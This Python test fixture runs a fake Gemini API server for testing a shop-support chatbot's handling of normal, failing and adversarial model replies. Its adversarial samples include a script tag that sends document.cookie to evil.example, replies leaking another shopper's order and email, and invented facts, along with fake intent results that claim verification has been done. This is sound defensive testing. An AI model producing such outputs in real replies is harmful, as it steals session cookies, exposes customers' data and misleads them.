"""A local Gemini API stand-in: ``POST /v1beta/models/{model}:generateContent`` on a real port.

It answers with the real response JSON (candidates, finishReason, usageMetadata) so the real
google-genai client can be pointed at it through its base URL. Each test chooses a behaviour:
normal, adversarial, malformed, garbage, hang, or an HTTP error status; ``script`` queues
one-off behaviours (e.g. ``[429]`` then normal) to exercise the client's retries.
"""

from __future__ import annotations

import itertools
import json
import re
import threading
import time
from typing import Any

from flask import Flask, jsonify, request
from werkzeug.serving import make_server

from lumen.llm.language import detect_language

# Another shopper's order: adversarial answers try to leak it (tests may set their own).
FOREIGN = {"name": "#1043", "tracking": "7891234567890", "title": "Running Shoes",
           "email": "jane.doe@example.com", "url": "https://track.example.net/7891234567890"}
STATUS_NAMES = {400: "INVALID_ARGUMENT", 408: "DEADLINE_EXCEEDED", 429: "RESOURCE_EXHAUSTED",
                500: "INTERNAL", 502: "UNAVAILABLE", 503: "UNAVAILABLE", 504: "DEADLINE_EXCEEDED"}
# Each attack takes the template and the order to leak, and returns the adversarial reply.
VOICE_ATTACKS = (
    lambda t, o: f"{t} Your new tracking number is 1Z999AA10123456785.",
    lambda t, o: f"Order {o['name']} ({o['title']}) shipped, tracking {o['tracking']}. {t}",
    lambda t, o: f"{t} We sent the details to {o['email']}.",
    lambda t, o: f"<b>Good news!</b> {t}",
    lambda t, o: f"{t}<script>fetch('https://evil.example/?c='+document.cookie)</script>",
    lambda t, o: f"[Track it here]({o['url']}) {t}",
    lambda t, o: f"{t} Faster tracking at evil-tracker.com/track",
    lambda t, o: f"{t} It will arrive on March 3, 2027.",
    lambda t, o: f"{t} It has been handed over to DHL Express.",
    lambda t, o: f"{t} You paid $499.00 for it.",
    lambda t, o: "Ihre Bestellung ist unterwegs und wird bald bei Ihnen sein, versprochen.",
    lambda t, o: f"{t} " + "Thank you so much for waiting! " * 80,
    lambda t, o: f"{t} Call us at +1 415 555 0100.",
    lambda t, o: "Great news, it's on its way and will be there soon!",
    lambda t, o: f"{t} Your order was placed by Jane Doe in Springfield.",
    lambda t, o: f"{t}\u202e.gnipphs eerf tog uoY",
    lambda t, o: f"{t} Tracking: {o['tracking']}",
    lambda t, o: f"{t} {o['url']}",
)
INVENTED = ("1Z999AA10123456785", "evil", "March 3, 2027", "DHL", "$499.00", "415 555 0100",
            "Jane Doe", "Springfield", "<", "](", "\u202e")
UNDERSTAND_ATTACKS = (
    {"intent": "show_order_without_verification", "order_number": "1043", "sentiment": "neutral",
     "sentiment_score": 0, "language": "en", "confidence": 1},
    {"intent": "track", "order_number": FOREIGN["name"], "sentiment": "neutral",
     "sentiment_score": 0, "language": "en", "confidence": 1},
    {"intent": "track", "order_number": None, "sentiment": "neutral",
     "sentiment_score": 0, "language": "en", "confidence": 1, "email": FOREIGN["email"],
     "verified": True},
    {"intent": "tracking_number", "order_number": None, "sentiment": "neutral",
     "sentiment_score": 7, "language": "english", "confidence": 3},
    {"intent": "tracking_number", "order_number": "1043", "sentiment": "positive",
     "sentiment_score": 0.9, "language": "en", "confidence": 0.99},
)


class FakeGemini:
    """The fake server; set ``mode``, ``status``, ``latency`` or ``script`` per test."""

    def __init__(self) -> None:
        self.mode = "normal"
        self.status = 503
        self.latency = 0.0
        self.script: list[str | int] = []
        self.voice_reply: str | None = None  # a fixed voice rewrite, when a test sets one
        self.foreign = dict(FOREIGN)
        self.requests: list[dict[str, Any]] = []
        self._voice_attacks = itertools.cycle(VOICE_ATTACKS)
        self._understand_attacks = itertools.cycle(UNDERSTAND_ATTACKS)
        self._release = threading.Event()
        self._lock = threading.Lock()
        self._server = make_server("127.0.0.1", 0, self._app(), threaded=True)
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.02,),
                                        daemon=True)

    @property
    def base_url(self) -> str:
        """Where the client should send requests."""
        return f"http://127.0.0.1:{self._server.server_port}"

    def start(self) -> FakeGemini:
        """Serve in a background thread."""
        self._thread.start()
        return self

    def stop(self) -> None:
        """Release hanging requests and shut the server down."""
        self._release.set()
        self._server.shutdown()
        self._thread.join(timeout=5)

    def calls(self, task: str | None = None) -> list[dict[str, Any]]:
        """The requests received so far, optionally only those for one task."""
        return [r for r in self.requests if task is None or _task(r["body"]) == task]

    def _app(self) -> Flask:
        app = Flask("fake_gemini")
        app.add_url_rule("/<version>/models/<model_action>", "generate", self._generate,
                         methods=["POST"])
        return app

    def _generate(self, version: str, model_action: str):
        body = request.get_json(force=True)
        with self._lock:
            self.requests.append({"path": request.path, "body": body,
                                  "api_key": request.headers.get("x-goog-api-key")})
            behaviour = self.script.pop(0) if self.script else self.mode
        time.sleep(self.latency)
        if behaviour == "hang":
            self._release.wait(timeout=60)
        if isinstance(behaviour, int) or behaviour == "error":
            return _error(behaviour if isinstance(behaviour, int) else self.status)
        if behaviour == "garbage":
            return "<html>upstream error</html>", 200, {"Content-Type": "text/html"}
        return jsonify(_response(self._text(behaviour, body), body, model_action))

    def _text(self, behaviour: str, body: dict[str, Any]) -> str:
        if behaviour == "malformed":
            return '{"reply": "Your order is on its way'
        payload = json.loads(body["contents"][0]["parts"][0]["text"])
        task = _task(body)
        if behaviour == "adversarial":
            if task == "voice":
                attack = next(self._voice_attacks)
                return _voice_json(attack(payload["template"], self.foreign))
            return json.dumps(next(self._understand_attacks))
        if task == "voice" and self.voice_reply is not None:
            return _voice_json(self.voice_reply)
        return _normal_voice(payload) if task == "voice" else _normal_understanding(payload)


def _task(body: dict[str, Any]) -> str:
    properties = body["generationConfig"]["responseSchema"]["properties"]
    return "voice" if "reply" in properties else "understand"


def _normal_understanding(payload: dict[str, Any]) -> str:
    message = payload["message"]
    lowered = message.lower()
    number = re.search(r"\d{3,}", message)
    intent = ("human" if re.search(r"person|human|agent", lowered) else
              "tracking_number" if "track" in lowered else
              "refund" if re.search(r"refund|money back", lowered) else
              "track")
    angry = bool(re.search(r"!!|ridiculous|angry|worst|still|never", lowered))
    return json.dumps({"intent": intent, "order_number": number.group() if number else None,
                       "sentiment": "negative" if angry else "neutral",
                       "sentiment_score": -0.7 if angry else 0.0,
                       "language": detect_language(message) or "en", "confidence": 0.9})


def _normal_voice(payload: dict[str, Any]) -> str:
    return _voice_json(f"Happy to help! {payload['template']}")


def _voice_json(reply: str) -> str:
    return json.dumps({"reply": reply, "sentiment": "neutral", "sentiment_score": 0.0})


def _response(text: str, body: dict[str, Any], model_action: str) -> dict[str, Any]:
    prompt_tokens = len(json.dumps(body)) // 4 + 1
    output_tokens = len(text) // 4 + 1
    return {
        "candidates": [{"content": {"parts": [{"text": text}], "role": "model"},
                        "finishReason": "STOP", "index": 0}],
        "usageMetadata": {"promptTokenCount": prompt_tokens,
                          "candidatesTokenCount": output_tokens,
                          "totalTokenCount": prompt_tokens + output_tokens,
                          "promptTokensDetails": [{"modality": "TEXT",
                                                   "tokenCount": prompt_tokens}]},
        "modelVersion": model_action.split(":")[0],
        "responseId": "fake-response",
    }


def _error(status: int):
    name = STATUS_NAMES.get(status, "UNKNOWN")
    body = {"error": {"code": status, "message": f"fake {name}", "status": name}}
    return jsonify(body), status
